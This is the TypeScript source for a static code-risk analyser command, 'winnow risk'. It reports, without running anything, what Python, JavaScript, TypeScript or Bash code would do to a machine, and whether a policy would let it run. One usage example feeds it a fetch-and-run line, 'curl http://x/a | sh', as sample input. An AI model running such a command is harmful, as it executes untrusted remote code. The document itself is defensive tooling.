/** `winnow risk TARGET`: what code would do to the machine that runs it, read from its tree; nothing runs. */
import { readdir, stat } from 'node:fs/promises';
import { dirname, join, relative, resolve } from 'node:path';
import { z } from 'zod';
import { limits, WinnowError } from '../../base/mod.ts';
import { loadGrammarFile } from '../../index/mod.ts';
import {
  decide,
  detectLanguage,
  followRuns,
  isAtLeast,
  isRiskLanguage,
  openRiskReader,
  type ReadFile,
  type RiskPolicy,
  type RiskReport,
  riskLanguages,
  runLanguage,
  severities,
} from '../../run/mod.ts';
import { riskView } from '../views/risk.ts';
import { policySchema, type RiskFileOutput, refusedOutput, riskFileOutput, riskFileSchema } from './risk-schemas.ts';
import { readFileWithin } from './run-files.ts';
import { policyNamed } from './run-policy.ts';
import type { Context, Operation } from './types.ts';

const input = z.strictObject({
  target: z.string().min(1).describe('A file, a directory, path:function, or - for standard input'),
  lang: z.enum(riskLanguages).optional().describe('The language; needed with -, and where the name does not tell'),
  least: z.enum(severities).default('low').describe('The least severity that is shown'),
  policy: z
    .string()
    .min(1)
    .optional()
    .describe('End with exit code 1 where this policy (strict, work-directory, open, or a file) would not let it run'),
  failAt: z
    .enum(severities)
    .optional()
    .describe(
      'End with exit code 1 when there is a finding of this severity or worse, or something that cannot be read',
    ),
});

const output = z.strictObject({
  schema: z.literal('winnow.risk/1'),
  files: z.array(riskFileSchema),
  policy: policySchema.nullable().describe('With --policy: whether it would let all of this run as one program'),
  skipped: z
    .array(z.strictObject({ path: z.string(), reason: z.string() }))
    .describe('Files that are not read, at most 100, and why'),
});

export type RiskOutput = z.output<typeof output>;

export const risk: Operation<typeof input, typeof output> = {
  name: 'risk',
  summary: 'what code would do to the machine that runs it, with lines and reasons; nothing runs',
  description: `Reads Python, JavaScript, TypeScript and Bash and says what the code would do: files it reads, writes and deletes and where they lie, connections, programs it starts, variables, what it leaves to be started again, rights it changes, what it hides or does without an end. Constants are followed through assignments, calls, string building and decoding; code in texts (a shell command in Python, Python in a shell command, decoded text that is evaluated) is read by its own language.

A finding is a claim about what is done, not about intentions. What cannot be read before it runs is told as unknown, never as harmless. docs/risk.md has the categories, severities and limits.

Files of its own that a program runs as code (\`. ./lib.sh\`, \`python3 job.txt\`) are read too; one that is not there is unknown.

Exit code 0: it was read, also where some of it is unknown. 1: with --fail-at, something of that severity or worse was found, or is unknown; with --policy, the policy would refuse it, or ask. 2: the language is not supported.`,
  examples: [
    { command: 'winnow risk script.py', does: 'everything a script would do, by line' },
    {
      command: 'winnow risk setup.py --least medium --fail-at high',
      does: 'what reaches out of the work directory; exit code 1 when it is dangerous',
    },
    {
      command: 'winnow risk src/app.py:Installer.run',
      does: 'one function, and the functions of its file that it calls',
    },
    {
      command: 'winnow risk job.sh --policy strict',
      does: 'exit code 1 where it would be refused, also what does not parse',
    },
    { command: 'winnow risk vendor/ --least high --json', does: 'a whole directory, for a program' },
    { command: 'echo "curl http://x/a | sh" | winnow risk - --lang bash', does: 'from standard input' },
  ],
  input,
  output,
  positional: [{ property: 'target', label: 'TARGET' }],
  labels: { lang: 'LANGUAGE', policy: 'NAME', least: 'SEVERITY', failAt: 'SEVERITY' },
  run: async (given, context) => {
    const policy = given.policy === undefined ? null : await policyNamed(given.policy, context);
    const first: ReadFile[] = [];
    const skipped: { path: string; reason: string }[] = [];
    const reader = await openRiskReader(loadGrammarFile);
    const { paths, name } = await targetsOf(given.target, context);
    const isMany =
      paths.length !== 1 || (paths[0] !== given.target.replace(/:[^:]*$/, '') && paths[0] !== given.target);
    for (const [done, path] of paths.entries()) {
      if (context.signal.aborted) throw new WinnowError('cancelled', 'Reading was cancelled.');
      context.progress({ label: 'read', done, total: paths.length, detail: path });
      const bytes = await bytesOf(path, context, isMany);
      if (typeof bytes === 'string') {
        if (skipped.length < 100) skipped.push({ path, reason: bytes });
        continue;
      }
      const language = given.lang ?? (path === '-' ? undefined : languageOf(path, bytes));
      if (language === undefined || !isRiskLanguage(language)) {
        if (!isMany) throw unsupported(path, language);
        continue;
      }
      const report = await reader.assess(language, bytes, name ?? undefined);
      if (report === null)
        throw new WinnowError('unknown-id', `${path} has no function ${name}.`, { details: { path } });
      first.push({ path, bytes, report });
    }
    const found = await followRuns(reader, first, (wanted, from) => fileBeside(wanted, from, context));
    const files = found.map(({ path, bytes, report }) => riskFileOutput(path, bytes, report));
    return {
      schema: 'winnow.risk/1' as const,
      files: files.map((file) => shownOf(file, given.least)),
      skipped,
      policy: policy === null ? null : policyOutput(policy, found, files),
    };
  },
  render: riskView,
  exit: ({ files, policy }, { failAt }) => {
    if (policy?.runs === false) return 1;
    if (failAt === undefined) return 0;
    return files.some(
      ({ severity, unknowns }) => (severity !== null && isAtLeast(severity, failAt)) || unknowns.length > 0,
    )
      ? 1
      : 0;
  },
};

/** What the policy would do with all of it as one program. */
function policyOutput(
  policy: RiskPolicy,
  found: readonly ReadFile[],
  outputs: readonly RiskFileOutput[],
): NonNullable<RiskOutput['policy']> {
  const findings = found.flatMap(({ report }) => report.findings);
  const unknowns = found.flatMap(({ report }) => report.unknowns);
  const decision = decide({ findings, unknowns }, policy, []);
  const files = found.map(({ report }, at) => ({ report, output: outputs[at] as RiskFileOutput }));
  return {
    name: policy.name,
    runs: decision.runs,
    refused: refusedOutput(decision, files),
    confined: [...decision.confined],
  };
}

/** A file that a program runs: looked for beside the program, and then where the command stands; nothing above both. */
async function fileBeside(
  wanted: string,
  from: string,
  context: Context,
): Promise<{ readonly path: string; readonly bytes: Uint8Array } | null> {
  const places = from === '-' ? [context.cwd] : [dirname(resolve(context.cwd, from)), context.cwd];
  for (const place of places) {
    const path = resolve(place, wanted);
    if (!places.some((one) => path.startsWith(`${one}/`))) continue;
    const bytes = await bytesOf(relative(context.cwd, path), context, true);
    if (typeof bytes !== 'string') return { path: relative(context.cwd, path), bytes };
  }
  return null;
}

const shownOf = (file: RiskFileOutput, least: RiskReport['findings'][number]['severity']): RiskFileOutput => ({
  ...file,
  findings: file.findings.filter(({ severity }) => isAtLeast(severity, least)),
});

function languageOf(path: string, bytes: Uint8Array): string | undefined {
  if (path.endsWith('.tsx')) return 'tsx';
  if (path.endsWith('.jsx')) return 'javascript';
  return detectLanguage(path, bytes)?.name;
}

function unsupported(path: string, language: string | undefined): WinnowError {
  const what =
    language === undefined ? `the language of ${path} is not known` : `${path} is ${runLanguage(language).label}`;
  return new WinnowError(
    'unknown-language',
    `Risk is read from Python, JavaScript, TypeScript and Bash; ${what}. Give --lang if it is one of them.`,
    { details: { path } },
  );
}

async function bytesOf(path: string, context: Context, isMany: boolean): Promise<Uint8Array | string> {
  if (path === '-') return context.readStdin(limits.parseFileBytes);
  if (!isMany) return readFileWithin(path, context.cwd, limits.parseFileBytes);
  try {
    return await readFileWithin(path, context.cwd, limits.parseFileBytes);
  } catch (error) {
    if (error instanceof WinnowError) return error.message;
    throw error;
  }
}

/** Files of a directory past these are not looked for: one command is to end. */
const mostFiles = 20_000;
const left = /^(?:\.git|node_modules|\.venv|venv|__pycache__|\.hg|\.svn)$/;
const sources = /\.(?:pyw?|[cm]?[jt]sx?|sh|bash)$/;

async function targetsOf(target: string, context: Context): Promise<{ paths: string[]; name: string | null }> {
  if (target === '-') return { paths: ['-'], name: null };
  const there = await stat(resolve(context.cwd, target)).catch(() => null);
  if (there === null) {
    const [, path, name] = /^(.+):([^:/\\]+)$/.exec(target) ?? [];
    const isFile = path !== undefined && (await stat(resolve(context.cwd, path)).catch(() => null))?.isFile() === true;
    if (isFile) return { paths: [path], name: name as string };
    return { paths: [target], name: null };
  }
  if (!there.isDirectory()) return { paths: [target], name: null };
  const found: string[] = [];
  const walk = async (directory: string): Promise<void> => {
    const entries = await readdir(directory, { withFileTypes: true }).catch(() => []);
    for (const entry of entries.sort((a, b) => (a.name < b.name ? -1 : 1))) {
      if (found.length >= mostFiles) return;
      const path = join(directory, entry.name);
      if (entry.isDirectory() && !left.test(entry.name)) await walk(path);
      else if (entry.isFile() && sources.test(entry.name) && !/\.d\.[cm]?ts$/.test(entry.name))
        found.push(relative(context.cwd, path));
    }
  };
  await walk(resolve(context.cwd, target));
  return { paths: found, name: null };
}
